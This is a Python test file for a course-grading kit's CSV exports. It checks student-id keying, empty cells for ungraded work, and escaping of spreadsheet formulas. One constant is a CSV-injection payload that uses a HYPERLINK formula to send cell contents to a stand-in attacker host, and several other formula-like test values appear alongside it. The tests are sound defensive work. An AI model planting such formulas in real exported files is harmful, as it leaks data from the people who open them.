"""Every CSV the kit writes keys students by the id in the result, escapes formula cells and
leaves an ungraded submission empty (issue 15, item 7)."""
import csv
import json
import os
import sys
from pathlib import Path

from grading import lms
from grading.nbgrader_plugins import ReleasedAssignmentsCsvExport

ASSIGNMENT = "linear_classifiers"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def write_result(folder, filename, **data):
    (folder / filename).write_text(json.dumps({"assignment": ASSIGNMENT, "max_total": 10.0, **data}))


def read(path):
    return list(csv.reader(open(path, newline="", encoding="utf-8")))


def test_students_are_keyed_by_the_id_in_the_result_not_the_file_name(tmp_path):
    """bob and bob__x are two students (bob__x's file is bob__x.json, as grade-all names it; results
    written before grade-all encoded bob/x as bob%2Fx.json named it bob__x.json too): each keeps
    their own grade."""
    write_result(tmp_path, "bob.json", id="bob", total=2.0)
    write_result(tmp_path, "bob__x.json", id="bob__x", total=9.0)
    write_result(tmp_path, "carol__linear_classifiers.json", id="carol/linear_classifiers", total=5.0)
    write_result(tmp_path, "dave.json", id="erin", total=4.0)   # a renamed file: the id says erin
    scores = lms.scores_from_results(tmp_path)[ASSIGNMENT]
    assert scores == {"bob": (2.0, 10.0), "bob__x": (9.0, 10.0), "carol": (5.0, 10.0), "erin": (4.0, 10.0)}


def test_ungraded_is_exported_empty_not_zero(tmp_path):
    write_result(tmp_path, "alice.json", id="alice", total=7.0)
    write_result(tmp_path, "bob.json", id="bob", total=None, max_total=None, error="the sandbox could not start")
    write_result(tmp_path, "carol.json", id="carol", total=0.0, error="the grader crashed")
    rows = lms.canvas_rows(lms.scores_from_results(tmp_path))
    table = read(lms.write_csv(rows, tmp_path / "canvas.csv"))
    cells = {r[3]: r[5] for r in table[2:]}
    assert cells == {"alice": "7", "bob": "", "carol": ""}
    assert table[1][5] == "10"


def test_canvas_formula_cells_are_escaped(tmp_path):
    scores = {ASSIGNMENT: {FORMULA: (3.0, 10.0), "+1": (4.0, 10.0), "@SUM(A1)": (5.0, 10.0)}}
    names = {FORMULA: ("-2+3", "\tTab"), "+1": ("\rCR", "")}
    table = read(lms.write_csv(lms.canvas_rows(scores, names), tmp_path / "canvas.csv"))
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sorted(["'" + FORMULA, "'+1", "'@SUM(A1)"]) == sorted(r[3] for r in table[2:])
    assert sorted(r[5] for r in table[2:]) == ["3", "4", "5"]   # numbers stay numbers


def test_nbgrader_export_escapes_formula_cells(tmp_path, monkeypatch):
    from nbgrader.api import Gradebook

    monkeypatch.setenv("PATH", str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""))  # alembic

    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gb:
        gb.add_assignment(ASSIGNMENT)
        gb.add_student(FORMULA, first_name="@cmd", last_name="-1+1", email="=1+1@example.org")
        out = tmp_path / "grades.csv"
        ReleasedAssignmentsCsvExport(to=str(out), assignment=[ASSIGNMENT], student=[]).export(gb)
    table = read(out)
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    row = dict(zip(table[0], table[1]))
    assert row["student_id"] == "'" + FORMULA and row["first_name"] == "'@cmd"
